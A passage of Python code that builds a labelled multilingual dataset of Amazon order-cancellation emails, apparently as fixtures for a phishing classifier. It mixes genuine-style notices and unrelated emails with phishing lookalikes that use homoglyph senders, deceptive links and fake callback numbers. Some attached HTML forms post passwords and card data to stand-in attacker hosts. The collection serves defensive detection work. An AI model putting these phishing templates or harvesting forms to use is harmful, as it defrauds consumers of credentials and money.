    L(cause="technical_issue", states_reason=True, note="'sera annulée' sauf action sous 24h, yahoo",
      from_=("Amazon Support", "amazon.support.commandes@yahoo.fr"), to=("", "camille.durand@orange.fr"),
      subject="Dernier rappel : votre commande sera annulée dans 24h",
      text="Bonjour,\n\nSuite à une erreur système lors du traitement, votre commande sera annulée automatiquement dans 24 heures si vous ne confirmez pas vos informations.\n\nConfirmez ici : http://bit.ly/amz-confirm-fr\n\nMerci de votre confiance,\nL'équipe Amazon\n",
      cte="8bit")
    L(cause="customer_request", states_reason=True, note="nom grec (Α/ο), amazon-orders.help, pas de n° de commande, 'si ce n'est pas vous'",
      from_=("\u0391maz\u03bfn", "support@amazon-orders.help"), to=("", "gtremblay@videotron.ca"),
      subject="Confirmation d'annulation de votre commande",
      html=simple_html("<p>Bonjour,</p><p>Vous avez demandé l'annulation de votre commande. Cette annulation sera effective sous 2 heures.</p><p>Si vous n'êtes pas à l'origine de cette demande, annulez-la immédiatement :</p><p><a href='https://amazon-orders.help/fr/annulation/stop'>https://www.amazon.ca/gp/your-account/order-history</a></p><p>Service Client</p>"),
      cte="base64")
    L(cause="unknown", states_reason=False, note="grossier, pièce jointe HTML, domaine amazon.fr.account-verify.xyz, sans motif",
      from_=("Amazon", "service@amazon.fr.account-verify.xyz"), to=("", "julien.lefebvre@free.fr"),
      subject="Votre commande a ete annulée",
      text="Bonjour\n\nVotre commande a ete annulée. Veuillez remplir le formulaire ci-joint pour obtenir votre remboursement.\n\nAmazon.fr\n",
      attach=[("Formulaire_Remboursement_Amazon.html", "text/html", "<html><body><form action='http://account-verify.xyz/collect.php' method='post'><h2>Amazon - Remboursement</h2>Email <input name=e> Mot de passe <input name=p type=password> Carte <input name=c><button>Valider</button></form></body></html>")],
      cte="quoted-printable")
    return R

# =============================================================== SPANISH
def foot_es(dom, legal):
    return [
        "Amazon nunca te pedirá tu contraseña, códigos de verificación ni datos bancarios por correo electrónico, SMS o teléfono.",
        "Si el número de tu tarjeta o su fecha de caducidad han cambiado, actualízalos en Mi cuenta: https://www.%s/cpe/yourpayments/wallet" % dom,
        "¿Has recibido un correo sospechoso que dice ser de Amazon? Denúncialo en stop-spoofing@%s o consulta https://www.%s/gp/help/customer/display.html?nodeId=GMMSQ8XAVNDY3TKF" % (dom, dom),
        "Ayuda: https://www.%s/gp/help/customer/display.html" % dom,
        "Este mensaje se ha enviado desde una dirección que no acepta respuestas.",
        legal]
LEGAL_ES = "Amazon EU S.à r.l., 38 avenue John F. Kennedy, L-1855 Luxemburgo. Capital social: 125.000 EUR. RCS Luxemburgo B-101818. NIF: W0184081H."
LEGAL_MX = "Servicios Comerciales Amazon México, S. de R.L. de C.V., Juan Salvador Agraz 73, Santa Fe, Cuajimalpa, 05348, Ciudad de México."
N_ES = ("Mis pedidos", "Mi cuenta", "Amazon.es"); N_MX = ("Mis pedidos", "Mi cuenta", "Amazon.com.mx")

def es_all():
    R = []
    def notice(cause, sr, dom, note, fr, to, subj, paras, items, head, totals, legal, nav, layout, cte, auth, cte_text=None, charset="utf-8", title="Pedido cancelado"):
        o = paras[0]; paras = paras[1:]
        d = dict(kind="notice", lang="es", cause=cause, states_reason=sr, marketplace=dom, note=note, from_=fr, to=to, subject=subj, cte=cte, charset=charset)
        if auth: d["auth"] = auth_pass(dom)
        if cte_text: d["cte_text"] = cte_text
        ft = foot_es(dom, legal)
        if layout in ("text", "alt"):
            d["text"] = amz_text(nav[2], title, "Pedido n.º %s" % o, paras, items, head, totals, ft)
        if layout in ("html", "alt"):
            d["html"] = amz_html(dom, nav, title, o, "Pedido n.º", [_h.escape(p) for p in paras], items, head, totals, footer=[_h.escape(x) for x in ft])
        R.append(d)
    o = order_no()
    notice("inventory_shortage", True, "amazon.es", "preventa que no se puede servir; alt qp; auth", ("Amazon.es", "order-update@amazon.es"), ("Lucía Fernández", "lucia.fernandez84@gmail.com"),
           "Tu pedido de Amazon.es n.º %s ha sido cancelado" % o,
           [o, "Hola, Lucía:", "Lamentamos informarte de que no podremos servir tu reserva: el fabricante ha reducido las unidades disponibles para el lanzamiento y no hemos recibido stock suficiente para atender todas las preventas. Por este motivo hemos cancelado tu pedido.", "No se ha realizado ningún cargo en tu método de pago."],
           [("Pokémon Leyendas: Z-A (Nintendo Switch 2) - Edición Limitada", "Vendido por: Amazon EU S.à r.l.", "Cantidad: 1", "69,99 €")], "Artículos cancelados", [("Importe cobrado:", "0,00 €")], LEGAL_ES, N_ES, "alt", "quoted-printable", True)
    o = order_no()
    notice("payment_issue", True, "amazon.com.mx", "tarjeta rechazada / fondos insuficientes; text-only 8bit iso-8859-1", ("Amazon.com.mx", "payments-messages@amazon.com.mx"), ("Alejandra Ramírez", "ale.ramirez.g@hotmail.com"),
           "Tu pedido de Amazon.com.mx #%s ha sido cancelado" % o,
           [o, "Hola Alejandra,", "El banco emisor de tu tarjeta terminada en 8821 rechazó el cargo por fondos insuficientes y no recibimos un nuevo método de pago dentro del plazo indicado. Por ello cancelamos tu pedido.", "Si todavía deseas estos productos, puedes realizar un nuevo pedido con otra tarjeta, saldo de Amazon o pago en efectivo en OXXO."],
           [("Freidora de aire Ninja AF101 3.8 L", "Vendido por: Amazon México", "Cantidad: 1", "$1,899.00"), ("Termo Stanley Quencher 1.18 L", "Vendido por: Amazon México", "Cantidad: 2", "$1,398.00")], "Artículos cancelados", [("Total del pedido:", "$3,297.00")], LEGAL_MX, N_MX, "text", "8bit", False, charset="iso-8859-1")
    o = order_no()
    notice("technical_issue", True, "amazon.es", "error del sistema al procesar; html-only base64; auth", ("Amazon.es", "order-update@amazon.es"), ("Javier Ortega", "jortega@telefonica.net"),
           "Se ha cancelado 1 artículo de tu pedido de Amazon.es %s" % o,
           [o, "Hola, Javier:", "Debido a un error técnico en nuestros sistemas durante el procesamiento de tu pedido, no hemos podido completarlo y hemos cancelado el artículo que se indica a continuación.", "No se te ha cobrado nada por este artículo. Puedes volver a comprarlo desde la página del producto. Disculpa las molestias."],
           [("Cecotec Robot aspirador Conga 8290 Immortal", "Vendido por: Amazon EU S.à r.l.", "Cantidad: 1", "249,00 €")], "Artículo cancelado", None, LEGAL_ES, N_ES, "html", "base64", True)
    o = order_no()
    notice("fraud_prevention", True, "amazon.es", "pedido retenido por revisión de seguridad y cancelado; alt b64/qp iso-8859-15", ("Amazon.es", "cs-reply@amazon.es"), ("Javier Ortega", "jortega@telefonica.net"),
           "Información de Amazon.es sobre tu pedido %s" % o,
           [o, "Hola, Javier:", "Nuestro sistema de seguridad marcó tu pedido para una revisión adicional porque no pudimos verificar la información de pago asociada a la cuenta. Como la verificación no se completó, hemos cancelado el pedido y bloqueado temporalmente tu cuenta.", "Para restablecer el acceso, inicia sesión directamente en Amazon.es o en la app y sigue las instrucciones. No respondas a este mensaje con datos personales."],
           [("Apple iPhone 16 Pro 256 GB - Titanio natural", "Vendido por: Amazon EU S.à r.l.", "Cantidad: 1", "1.319,00 €")], "Artículos cancelados", None, LEGAL_ES, N_ES, "alt", "quoted-printable", False, cte_text="base64", charset="iso-8859-15", title="Información sobre tu pedido")
    o = order_no()
    d = dict(kind="notice", lang="es", cause="customer_request", states_reason=True, marketplace="amazon.com.mx", note="cancelación solicitada por el cliente; texto plano qp; auth",
             from_=("Amazon.com.mx", "auto-confirm@amazon.com.mx"), to=("Alejandra Ramírez", "ale.ramirez.g@hotmail.com"),
             subject="Cancelación exitosa de tu pedido de Amazon.com.mx #%s" % o, auth=auth_pass("amazon.com.mx"), cte="quoted-printable",
             text="Hola Alejandra,\n\nTal como lo solicitaste, cancelamos tu pedido #%s.\n\nArtículos cancelados:\n  Audífonos JBL Tune 520BT, azul   Cantidad: 1   $899.00\n\nMotivo de la cancelación: Cancelado por el cliente\n\nSi ya se había realizado un cargo, verás el reembolso en tu estado de cuenta en un plazo de 3 a 5 días hábiles.\n\nAmazon nunca te pedirá tu contraseña ni datos de tu tarjeta por correo. Si el número de tu tarjeta cambió, actualízalo en Mi cuenta. Reporta correos sospechosos: https://www.amazon.com.mx/gp/help/customer/display.html?nodeId=GMMSQ8XAVNDY3TKF\n\nEsperamos verte pronto.\nAmazon.com.mx\n" % o)
    R.append(d)
    o = order_no()
    notice("unknown", False, "amazon.es", "cancelado sin indicar motivo; alt 8bit", ("Amazon.es", "no-reply@amazon.es"), ("Lucía Fernández", "lucia.fernandez84@gmail.com"),
           "Tu pedido de Amazon.es %s ha sido cancelado" % o,
           [o, "Hola, Lucía:", "Te confirmamos que tu pedido ha sido cancelado. Si se hubiera realizado algún cargo, el reembolso aparecerá en tu método de pago en los próximos días.", "Puedes consultar los detalles en Mis pedidos."],
           [("Libro: El infinito en un junco - Irene Vallejo (tapa blanda)", "Vendido por: Amazon EU S.à r.l.", "Cantidad: 1", "11,35 €")], "Artículos cancelados", None, LEGAL_ES, N_ES, "alt", "8bit", False)

    N = lambda **k: R.append(dict(kind="non_notice", lang="es", cause=None, states_reason=False, marketplace=None, **k))
    L = lambda **k: R.append(dict(kind="lookalike", lang="es", marketplace=None, **k))
    N(note="MediaMarkt cancela su pedido, pagado con Amazon Pay; alt qp",
      from_=("MediaMarkt", "pedidos@news.mediamarkt.es"), to=("Javier Ortega", "jortega@telefonica.net"),
      subject="Tu pedido 1094477812 ha sido cancelado",
      text="Hola Javier,\n\nTu pedido 1094477812 ha sido cancelado porque el producto \"LG OLED55C44LA\" ya no está disponible en nuestro almacén.\nEl importe de 1.099,00 € se devolverá a tu cuenta de Amazon Pay en un plazo de 3-5 días.\n\nMediaMarkt\n",
      html=simple_html("<p>Hola Javier,</p><p>Tu pedido <b>1094477812</b> ha sido cancelado porque el producto «LG OLED55C44LA» ya no está disponible en nuestro almacén.</p><p>Forma de pago: <b>Amazon Pay</b>. El importe de 1.099,00 € se devolverá a tu cuenta de Amazon Pay en 3-5 días.</p><p>MediaMarkt</p>", "es"),
      cte="quoted-printable", charset="windows-1252")
    N(note="compañera avisa que canceló su pedido de Amazon; texto 8bit",
      from_=("Marta Gil", "marta.gil@empresa-logistica.es"), to=("Javier Ortega", "jortega@telefonica.net"),
      subject="Sillas de la oficina",
      text="Hola Javi,\n\nAl final he cancelado el pedido de Amazon de las sillas ergonómicas: el proveedor de siempre nos las deja más baratas y con montaje incluido. Amazon ya me ha devuelto el dinero a la tarjeta de empresa.\n¿Lo comentas tú con Recursos Humanos?\n\nUn saludo,\nMarta\n",
      cte="8bit")
    N(note="blog sobre phishing cita asunto de cancelación falso; html-only base64",
      from_=("Blog de Seguridad OSI", "boletin@seguridad-hogar.es"), to=("", "lucia.fernandez84@gmail.com"),
      subject="Boletín semanal: campaña de correos falsos «Tu pedido de Amazon ha sido cancelado»",
      html=simple_html("<h2>Campaña de phishing suplantando a Amazon</h2><p>Se han detectado correos con el asunto <i>«Tu pedido de Amazon.es n.º 171-2290 ha sido cancelado: verifica tu tarjeta»</i>. Redirigen a una web falsa que roba los datos bancarios.</p><p>Recomendaciones: no pulses el enlace, revisa tus pedidos desde la app oficial y reporta el correo.</p><p><a href='https://seguridad-hogar.es/baja'>Darse de baja</a></p>", "es"),
      cte="base64")
    N(note="suscripción Audible cancelada (amazon.com.mx); alt qp",
      from_=("Audible", "no-reply@audible.com.mx"), to=("Alejandra Ramírez", "ale.ramirez.g@hotmail.com"),
      subject="Tu membresía de Audible ha sido cancelada",
      text="Hola Alejandra,\n\nConfirmamos la cancelación de tu membresía de Audible. Conservas los títulos de tu biblioteca y podrás usar tus créditos hasta el 30 de junio.\nNo se realizarán más cargos a tu cuenta de Amazon.\n\nEl equipo de Audible\n",
      html=simple_html("<p>Hola Alejandra,</p><p>Confirmamos la cancelación de tu membresía de Audible. Conservas los títulos de tu biblioteca.</p><p>No se realizarán más cargos a tu cuenta de Amazon.</p>", "es"),
      cte="quoted-printable")
    o = order_no()
    N(note="cita de instalación (Amazon Servicios) cancelada, pedido mantiene; text qp",
      from_=("Amazon.es", "servicios@amazon.es"), to=("Lucía Fernández", "lucia.fernandez84@gmail.com"),
      subject="Tu cita de instalación del 9 de abril ha sido cancelada",
      text="Hola, Lucía:\n\nEl profesional asignado ha cancelado la cita de instalación del lavavajillas del martes 9 de abril (pedido %s). Tu pedido sigue activo y el producto se entregará en la fecha prevista.\n\nElige una nueva cita en Mis pedidos > Gestionar servicio: https://www.amazon.es/gp/css/order-history\n\nAmazon nunca te pedirá datos bancarios por correo.\nAmazon.es\n" % o,
      cte="quoted-printable", auth=auth_pass("amazon.es"))
    o = order_no()
    N(note="aviso de pago previo a cancelación (aún no cancelado); html-only qp",
      from_=("Amazon.es", "payments-messages@amazon.es"), to=("Lucía Fernández", "lucia.fernandez84@gmail.com"),
      subject="Revisa tu método de pago para el pedido %s" % o,
      html=amz_html("amazon.es", N_ES, "Revisa tu pago", o, "Pedido n.º", ["Hola, Lucía:", "No hemos podido cobrar tu pedido con la tarjeta terminada en 5530 porque ha caducado.", "Actualiza tu método de pago antes del 18 de febrero para que podamos enviarlo. Si no lo haces, tu pedido se cancelará."], footer=[_h.escape(x) for x in foot_es("amazon.es", LEGAL_ES)]),
      cte="quoted-printable")
    # lookalikes
    L(cause="fraud_prevention", states_reason=True, note="número de teléfono de devolución de llamada; gmail; sin n.º de pedido",
      from_=("Amazon Seguridad", "seguridad.amazon.es@gmail.com"), to=("", "jortega@telefonica.net"),
      subject="Pedido cancelado por actividad sospechosa - llame ya",
      text="Estimado cliente:\n\nHemos cancelado un pedido de PlayStation 5 Pro (799,99 €) realizado desde un dispositivo desconocido. Si no reconoce esta compra llame urgentemente al +34 911 23 84 56 para evitar el cargo.\n\nAtentamente,\nDepartamento de Seguridad Amazon\n",
      cte="8bit")
    o = order_no()
    L(cause="fraud_prevention", states_reason=True, note="nombre con cirílico, cuenta suspendida y pedido cancelado, código; plantilla pulida",
      from_=("\u0410m\u0430zon.es", "avisos@amazon-es-cuentas.com"), to=("Lucía Fernández", "lucia.fernandez84@gmail.com"),
      subject="Tu cuenta ha sido suspendida - pedido %s cancelado" % o,
      html=amz_html("amazon.es", N_ES, "Cuenta suspendida", o, "Pedido n.º", ["Hola:", "Hemos suspendido tu cuenta y cancelado tu pedido por un intento de acceso no autorizado.", "Introduce el código <b>551-902</b> en la página de verificación para reactivar tu cuenta y recuperar el pedido."], button=("Verificar ahora", "https://amazon-es-cuentas.com/verificar"), footer=[LEGAL_ES], link=lambda u, r: "https://amazon-es-cuentas.com/r/" + r),
      cte="quoted-printable")
    L(cause="payment_issue", states_reason=True, note="pide responder con datos de tarjeta; outlook",
      from_=("Amazon Pagos", "amazon.pagos.mx@outlook.com"), to=("", "ale.ramirez.g@hotmail.com"),
      subject="Su pedido fue cancelado - pago no autorizado",
      text="Hola,\n\nSu pedido fue cancelado porque el pago no fue autorizado. Para reactivarlo responda este correo con: nombre completo, número de tarjeta, fecha de vencimiento y CVV.\n\nGracias,\nAmazon México\n",
      cte="quoted-printable")
    o = order_no()
    L(cause="payment_issue", states_reason=True, note="texto del enlace muestra amazon.com.mx, href a otro dominio; dominio amazon.com.mx.pedidos-cancelados.net",
      from_=("Amazon.com.mx", "pagos@amazon.com.mx.pedidos-cancelados.net"), to=("Alejandra Ramírez", "ale.ramirez.g@hotmail.com"),
      subject="Tu pedido de Amazon.com.mx #%s ha sido cancelado" % o,
      auth="mx.hotmail.com; dkim=pass header.d=pedidos-cancelados.net; spf=pass smtp.mailfrom=pedidos-cancelados.net; dmarc=none header.from=amazon.com.mx.pedidos-cancelados.net",
      html=amz_html("amazon.com.mx", N_MX, "Pedido cancelado", o, "Pedido n.º", ["Hola Alejandra,", "Tu tarjeta fue rechazada y tu pedido ha sido cancelado. Actualiza tu información de pago en " + a("http://mx-pagos-verificacion.xyz/login", "https://www.amazon.com.mx/cpe/yourpayments/wallet") + " para reactivarlo."],
                    [("Smart TV Samsung 55\" Crystal UHD 4K", "Vendido por: Amazon México", "Cantidad: 1", "$8,499.00")], "Artículos cancelados", footer=[_h.escape(x) for x in foot_es("amazon.com.mx", LEGAL_MX)], link=lambda u, r: "http://mx-pagos-verificacion.xyz/c?" + r),
      cte="base64")
    L(cause="inventory_shortage", states_reason=True, note="dominio amaz0n, número de pedido malformado, pide datos bancarios",
      from_=("Amazon Reembolsos", "reembolsos@amaz0n-es.net"), to=("", "lucia.fernandez84@gmail.com"),
      subject="Pedido #AMZ-ES-77812 cancelado: producto agotado",
      html=simple_html("<p>Hola,</p><p>El producto de su pedido <b>#AMZ-ES-77812</b> está agotado y el pedido ha sido cancelado.</p><p>Para recibir el reembolso de 189,00 € confirme su IBAN y los datos de su tarjeta aquí: <a href='http://amaz0n-es.net/reembolso'>Solicitar reembolso</a></p>", "es"),
      cte="quoted-printable")
    L(cause="technical_issue", states_reason=True, note="'será cancelado' salvo acción en 24 h; yahoo",
      from_=("Soporte Amazon", "soporte_amazon_pedidos@yahoo.com"), to=("", "jortega@telefonica.net"),
      subject="Aviso: su pedido será cancelado en 24 horas",
      text="Estimado usuario:\n\nDebido a un error en el procesamiento, su pedido será cancelado en 24 horas si no confirma sus datos.\nConfirme aquí: http://tinyurl.com/amz-es-confirmar\n\nEquipo Amazon\n",
      cte="8bit")
    L(cause="customer_request", states_reason=True, note="nombre con griego, amazon-orders.help, sin n.º de pedido",
      from_=("\u0391mazon Atenci\u00f3n al Cliente", "noreply@amazon-orders.help"), to=("", "ale.ramirez.g@hotmail.com"),
      subject="Hemos recibido tu solicitud de cancelación",
      html=simple_html("<p>Hola,</p><p>Hemos recibido tu solicitud para cancelar tu pedido. Si no fuiste tú, detén la cancelación aquí:</p><p><a href='https://amazon-orders.help/mx/stop'>https://www.amazon.com.mx/gp/css/order-history</a></p>", "es"),
      cte="base64")
    L(cause="unknown", states_reason=False, note="dominio amazon.es.soporte-clientes.top, adjunto HTML, sin motivo",
      from_=("Amazon", "info@amazon.es.soporte-clientes.top"), to=("", "jortega@telefonica.net"),
      subject="Pedido cancelado",
      text="Su pedido ha sido cancelado. Abra el documento adjunto para ver los detalles y solicitar el reembolso.\n\nAmazon\n",
      attach=[("Detalles_Pedido.html", "text/html", "<html><body><form action='http://soporte-clientes.top/p.php'>Correo <input name=u> Contraseña <input type=password name=p> <button>Continuar</button></form></body></html>")],
      cte="quoted-printable")
    return R

# =============================================================== PORTUGUESE (BR)
def foot_pt(dom="amazon.com.br"):
    return [
        "A Amazon nunca solicitará sua senha, códigos de verificação ou dados do cartão por e-mail, SMS ou telefone.",
        "Se o número ou a validade do seu cartão mudaram, atualize-os em Sua conta: https://www.amazon.com.br/cpe/yourpayments/wallet",
        "Recebeu um e-mail suspeito em nome da Amazon? Denuncie em stop-spoofing@amazon.com.br ou acesse https://www.amazon.com.br/gp/help/customer/display.html?nodeId=GMMSQ8XAVNDY3TKF",
        "Ajuda: https://www.amazon.com.br/gp/help/customer/display.html",
        "Este e-mail foi enviado de um endereço que não aceita respostas.",
        "Amazon Serviços de Varejo do Brasil Ltda. - CNPJ 15.436.940/0001-03 - Av. Juscelino Kubitschek, 2041, Torre E, 18º andar, São Paulo/SP, CEP 04543-011."]
N_BR = ("Seus pedidos", "Sua conta", "Amazon.com.br")
D_BR = "amazon.com.br"

def pt_all():
    R = []
    def notice(cause, sr, note, fr, to, subj, paras, items, head, totals, layout, cte, auth, cte_text=None, charset="utf-8", title="Pedido cancelado"):
        o = paras[0]; paras = paras[1:]
        d = dict(kind="notice", lang="pt", cause=cause, states_reason=sr, marketplace=D_BR, note=note, from_=fr, to=to, subject=subj, cte=cte, charset=charset)
        if auth: d["auth"] = auth_pass(D_BR)
        if cte_text: d["cte_text"] = cte_text
        ft = foot_pt()
        if layout in ("text", "alt"):
            d["text"] = amz_text("Amazon.com.br", title, "Pedido nº %s" % o, paras, items, head, totals, ft)
        if layout in ("html", "alt"):
            d["html"] = amz_html(D_BR, N_BR, title, o, "Pedido nº", [_h.escape(p) for p in paras], items, head, totals, footer=[_h.escape(x) for x in ft])
        R.append(d)
    A = ("Ana Beatriz Souza", "anabia.souza@uol.com.br"); RL = ("Rafael Lima", "rafael.lima@bol.com.br"); FC = ("Fernanda Costa", "fe.costa.rj@gmail.com")
    o = order_no()
    notice("inventory_shortage", True, "vendedor parceiro não conseguiu atender; alt qp; auth", ("Amazon.com.br", "order-update@amazon.com.br"), A,
           "Seu pedido da Amazon.com.br nº %s foi cancelado" % o,
           [o, "Olá, Ana Beatriz,", "Infelizmente o vendedor não conseguiu atender ao seu pedido porque o produto abaixo está fora de estoque. Por isso, o pedido foi cancelado.", "Nenhuma cobrança foi efetuada. Caso tenha pago via Pix ou boleto, o reembolso será feito em até 5 dias úteis."],
           [("Air Fryer Mondial AFN-50-BI 5L", "Vendido por: Casa & Cozinha Comércio Ltda.", "Quantidade: 1", "R$ 379,90")], "Itens cancelados", [("Valor reembolsado:", "R$ 379,90")], "alt", "quoted-printable", True)
    o = order_no()
    notice("payment_issue", True, "pagamento não autorizado pela operadora; texto iso-8859-1 8bit", ("Amazon.com.br", "payments-messages@amazon.com.br"), RL,
           "Seu pedido %s foi cancelado - problema com o pagamento" % o,
           [o, "Olá, Rafael,", "A operadora do seu cartão Mastercard final 3306 não autorizou o pagamento e não recebemos um novo método de pagamento dentro do prazo. Por isso, cancelamos o seu pedido.", "Se ainda quiser os produtos, faça um novo pedido e escolha outra forma de pagamento (cartão, Pix ou boleto)."],
           [("Kindle Paperwhite 16 GB (12ª geração)", "Vendido por: Amazon.com.br", "Quantidade: 1", "R$ 999,00")], "Itens cancelados", None, "text", "8bit", False, charset="iso-8859-1")
    o = order_no()
    notice("technical_issue", True, "erro de preço/anúncio; html-only base64; auth", ("Amazon.com.br", "order-update@amazon.com.br"), FC,
           "Item cancelado do seu pedido da Amazon.com.br %s" % o,
           [o, "Olá, Fernanda,", "Identificamos um erro de preço no anúncio do produto abaixo, que foi exibido por um valor incorreto devido a uma falha no cadastro. Por isso, cancelamos este item do seu pedido.", "Você não será cobrada. Pedimos desculpas pelo transtorno."],
           [("Smartphone Samsung Galaxy S24 FE 128GB", "Vendido por: Amazon.com.br", "Quantidade: 1", "R$ 299,00")], "Item cancelado", None, "html", "base64", True, title="Item cancelado")
    o = order_no()
    notice("fraud_prevention", True, "conta em espera para verificação de identidade; alt b64/qp", ("Amazon.com.br", "cs-reply@amazon.com.br"), RL,
           "Informações da Amazon.com.br sobre o pedido %s" % o,
           [o, "Olá, Rafael,", "Por motivos de segurança, sua conta foi colocada em espera e o pedido abaixo foi cancelado, pois precisamos verificar sua identidade e as informações de pagamento.", "Para concluir a verificação, acesse Amazon.com.br diretamente pelo navegador ou aplicativo e faça login. Não responda a este e-mail com dados pessoais."],
           [("Console PlayStation 5 Slim Digital", "Vendido por: Amazon.com.br", "Quantidade: 1", "R$ 3.599,00")], "Itens cancelados", None, "alt", "quoted-printable", False, cte_text="base64", title="Informações sobre o seu pedido")
    o = order_no()
    R.append(dict(kind="notice", lang="pt", cause="customer_request", states_reason=True, marketplace=D_BR, note="cancelamento solicitado pelo cliente; texto qp; auth",
        from_=("Amazon.com.br", "auto-confirm@amazon.com.br"), to=A, auth=auth_pass(D_BR), cte="quoted-printable",
        subject='Cancelamento bem-sucedido de "Jogo de Panelas Tramontina" do seu pedido da Amazon.com.br',
        text="Olá, Ana Beatriz,\n\nConforme solicitado, cancelamos o seguinte item do seu pedido nº %s:\n\n  Jogo de Panelas Tramontina Paris 5 peças antiaderente\n  Quantidade: 1\n  Motivo do cancelamento: cancelado pelo cliente\n\nSe houve cobrança, o estorno aparecerá na fatura do seu cartão em até 2 ciclos.\n\nSegurança: a Amazon nunca pede sua senha ou dados do cartão por e-mail. Se o número do seu cartão mudou, atualize-o em Sua conta. Denuncie e-mails suspeitos: https://www.amazon.com.br/gp/help/customer/display.html?nodeId=GMMSQ8XAVNDY3TKF\n\nAté breve,\nAmazon.com.br\n" % o))
    o = order_no()
    notice("unknown", False, "cancelado sem motivo informado; alt 8bit", ("Amazon.com.br", "no-reply@amazon.com.br"), FC,
           "Seu pedido da Amazon.com.br %s foi cancelado" % o,
           [o, "Olá, Fernanda,", "Seu pedido foi cancelado. Se houve alguma cobrança, o valor será estornado automaticamente.", "Você pode consultar os detalhes em Seus pedidos."],
           [("Livro: Torto Arado - Itamar Vieira Junior", "Vendido por: Amazon.com.br", "Quantidade: 1", "R$ 49,90")], "Itens cancelados", None, "alt", "8bit", False)

    N = lambda **k: R.append(dict(kind="non_notice", lang="pt", cause=None, states_reason=False, marketplace=None, **k))
    L = lambda **k: R.append(dict(kind="lookalike", lang="pt", marketplace=None, **k))
    N(note="Mercado Livre cancela compra e compara com Amazon; alt qp",
      from_=("Mercado Livre", "compras@mercadolivre.com.br"), to=RL,
      subject="Sua compra foi cancelada",
      text="Olá Rafael,\n\nO vendedor cancelou sua compra #2000008123456789 (Fone JBL Tune 520BT) por falta de estoque. Devolvemos R$ 219,00 ao seu Mercado Pago.\n\nDica: compare preços - encontramos o mesmo produto em outras lojas como Amazon e Magalu.\n\nMercado Livre\n",
      html=simple_html("<p>Olá Rafael,</p><p>O vendedor cancelou sua compra <b>#2000008123456789</b> (Fone JBL Tune 520BT) por falta de estoque. Devolvemos R$ 219,00 ao seu Mercado Pago.</p><p style='color:#666'>Dica: compare preços - encontramos o mesmo produto em outras lojas como Amazon e Magalu.</p>", "pt-BR"),
      cte="quoted-printable", charset="iso-8859-1")
    N(note="amiga avisa que cancelou seu pedido na Amazon; texto 8bit",
      from_=("Juliana Prado", "ju.prado@hotmail.com"), to=A,
      subject="Re: presente da Bia",
      text="Oi Ana!\n\nCancelei meu pedido na Amazon daquela luminária, a entrega ia ficar pra depois do aniversário. Vou comprar na loja do shopping amanhã mesmo.\nQuer dividir?\n\nBeijos,\nJu\n",
      cte="8bit")
    N(note="newsletter sobre golpe cita assunto falso de cancelamento; html-only base64",
      from_=("Golpe Alerta", "newsletter@golpealerta.com.br"), to=("", "fe.costa.rj@gmail.com"),
      subject="Novo golpe: e-mail falso \"Seu pedido da Amazon foi cancelado\"",
      html=simple_html("<h2>Cuidado com o falso cancelamento da Amazon</h2><p>Criminosos estão enviando mensagens com o assunto <i>\"Seu pedido da Amazon.com.br nº 701-55 foi cancelado - atualize seu cartão\"</i>. O link leva a um site falso.</p><p>Nunca informe dados do cartão por e-mail. Confira seus pedidos direto no app.</p>", "pt-BR"),
      cte="base64")
    N(note="assinatura Kindle Unlimited cancelada; alt qp",
      from_=("Amazon.com.br", "kindle-unlimited@amazon.com.br"), to=FC,
      subject="Sua assinatura do Kindle Unlimited foi cancelada",
      text="Olá, Fernanda,\n\nConfirmamos o cancelamento da sua assinatura do Kindle Unlimited. Você poderá ler os títulos emprestados até 14 de agosto. Não haverá novas cobranças.\n\nAmazon.com.br\n",
      html=amz_html(D_BR, N_BR, "Assinatura cancelada", None, "", ["Olá, Fernanda,", "Confirmamos o cancelamento da sua assinatura do Kindle Unlimited. Você poderá ler os títulos emprestados até 14 de agosto.", "Não haverá novas cobranças."], footer=[_h.escape(x) for x in foot_pt()]),
      cte="quoted-printable", auth=auth_pass(D_BR))
    o = order_no()
    N(note="janela de entrega agendada cancelada, pedido mantido; texto qp",
      from_=("Amazon.com.br", "entregas@amazon.com.br"), to=RL,
      subject="Seu agendamento de entrega foi cancelado",
      text="Olá, Rafael,\n\nA transportadora cancelou o agendamento de entrega de sábado, 12/10 (8h às 12h), da sua geladeira Brastemp (pedido %s). O pedido continua ativo.\nEscolha uma nova data em Seus pedidos > Reagendar entrega: https://www.amazon.com.br/gp/css/order-history\n\nA Amazon nunca pede dados do cartão por e-mail.\n" % o,
      cte="quoted-printable")
    o = order_no()
    N(note="lembrete de pagamento antes de cancelar (boleto não pago); html-only qp",
      from_=("Amazon.com.br", "payments-messages@amazon.com.br"), to=A,
      subject="Atualize sua forma de pagamento do pedido %s" % o,
      html=amz_html(D_BR, N_BR, "Pagamento pendente", o, "Pedido nº", ["Olá, Ana Beatriz,", "Ainda não identificamos o pagamento do boleto do seu pedido.", "Pague o boleto ou escolha outra forma de pagamento até 05/09. Caso contrário, seu pedido será cancelado."], footer=[_h.escape(x) for x in foot_pt()]),
      cte="quoted-printable")
    # lookalikes
    L(cause="fraud_prevention", states_reason=True, note="número de telefone para ligar; gmail; sem nº de pedido",
      from_=("Central Amazon", "central.amazon.brasil@gmail.com"), to=("", "rafael.lima@bol.com.br"),
      subject="Compra cancelada por suspeita de fraude - ligue agora",
      text="Prezado cliente,\n\nUma compra de iPhone 15 (R$ 6.499,00) foi cancelada por suspeita de fraude. Se você não reconhece, ligue IMEDIATAMENTE para 0800 591 2277 para bloquear seu cartão.\n\nCentral de Segurança Amazon\n",
      cte="8bit")
    o = order_no()
    L(cause="fraud_prevention", states_reason=True, note="nome com cirílico, conta suspensa e pedido cancelado, código; modelo polido",
      from_=("\u0410mazon.com.br", "alerta@amazon-br-seguranca.com"), to=("Ana Beatriz Souza", "anabia.souza@uol.com.br"),
      subject="Conta suspensa: pedido %s cancelado" % o,
      html=amz_html(D_BR, N_BR, "Conta suspensa", o, "Pedido nº", ["Olá,", "Sua conta foi suspensa e seu pedido foi cancelado após uma tentativa de acesso não reconhecida.", "Use o código <b>730 418</b> na página de verificação para reativar sua conta."], button=("Reativar conta", "https://amazon-br-seguranca.com/reativar"), footer=["A Amazon nunca solicitará sua senha."], link=lambda u, r: "https://amazon-br-seguranca.com/r/" + r),
      cte="quoted-printable")
    L(cause="payment_issue", states_reason=True, note="pede resposta com dados do cartão; outlook",
      from_=("Amazon Pagamentos", "amazon.pagamentos.br@outlook.com"), to=("", "fe.costa.rj@gmail.com"),
      subject="Pedido cancelado - pagamento recusado",
